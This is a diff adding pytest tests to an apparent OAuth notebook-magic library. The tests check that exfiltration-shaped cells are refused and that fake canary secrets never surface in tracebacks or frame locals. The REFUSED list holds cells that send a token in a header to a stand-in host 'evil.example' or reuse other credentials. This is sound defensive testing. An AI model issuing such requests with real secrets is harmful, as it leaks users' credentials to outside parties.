@@ -17,7 +17,7 @@ import pytest
 from canaries import leaks
 
 from oauthmagic import Secret
-from oauthmagic.errors import SecretOnLine
+from oauthmagic.errors import OAuthMagicError, SecretOnLine
 
 #: Plainly fake; with what makes encodings differ.
 TOKEN = "Canary0-Zq9xT7~wB3+kL5/mN8=="
@@ -429,3 +429,70 @@ def test_what_a_notebook_holds_leads_to_no_plain_secret(shell):
         todo = following
     assert found == []
     assert len(seen) > 100
+
+
+MODES = ("Plain", "Context", "Verbose", "Minimal", "Docs")
+REFUSED = (
+    "%api echo GET http://evil.example/",
+    "%%api echo\nGET http://evil.example/",
+    "%token echo --credentials mine",
+    "%token echo --credentials nope",
+    "%token adopt echo --from mine --credentials other",
+    "%token echo --scope a --credentials other",
+    "%api echo GET /{{other}}",
+    "%%api echo\nGET /\nX-Trace: {{mine}}",
+    "%%api echo\nGET http://evil.example/\nX-Trace: {{plain}}",
+    "%token nope",
+    "def ask():\n    inner = dict(other)\n    %token echo --credentials inner\nask()",
+)
+
+
+@pytest.mark.parametrize("mode", MODES)
+def test_variables_of_the_notebook_are_in_no_traceback(shell, mode, echo_provider):
+    """What a cell read from a file, whether it was given to us or not."""
+    shell(f"%token add '{echo_provider()}'")
+    shell("%config OAuthMagic.short_errors = False")
+    # As `json.load` would: the values were never typed.
+    shell.names["mine"] = LOGIN
+    shell.names["other"] = {"account": {"key": TOKEN, "client_secret": REFRESH}}
+    shell.names["plain"] = TOKEN
+    shell(f"%xmode {mode}")
+
+    for cell in REFUSED:
+        ran = shell(cell)
+        shown = [ran.stdout, ran.stderr]
+        assert isinstance(ran.error, OAuthMagicError), cell
+        shown += [shell(f"%tb {each}").stdout for each in MODES]
+        shell(f"%xmode {mode}")
+        assert leaks({cell: shown}, CANARIES) == [], cell
+
+
+def test_no_frame_of_ours_shows_the_notebook(shell, echo_provider):
+    """Nor does an error reporter see it there that reads the variables of frames."""
+    shell(f"%token add '{echo_provider()}'")
+    shell("%config OAuthMagic.short_errors = False")
+    shell.names["mine"] = LOGIN
+    shell.names["other"] = {"account": {"key": TOKEN, "client_secret": REFRESH}}
+    shell.names["plain"] = TOKEN
+
+    for cell in REFUSED:
+        frames = traceback.StackSummary.extract(
+            traceback.walk_tb(shell(cell).error.__traceback__), capture_locals=True
+        )
+        # The cell itself has them, and so has what runs it.
+        ways = [place for place, each in enumerate(frames) if "_magic" in each.name]
+        shown = [repr(each.locals) for each in frames[ways[0] :]]
+        assert leaks({cell: shown}, CANARIES) == [], cell
+
+
+def test_a_magic_sees_the_variables_of_its_function(shell, echo_provider):
+    """They come before the notebook's, which may have none of the name."""
+    shell(f"%token add '{echo_provider()}'")
+    shell.names["other"] = LOGIN
+    line = "%token echo --credentials inner"
+
+    outside = shell(line)
+    inside = shell(f"def ask():\n    inner = dict(other)\n    {line}\nask()")
+
+    assert "inner" in str(outside.error)
+    assert "invalid_grant" in str(inside.error)
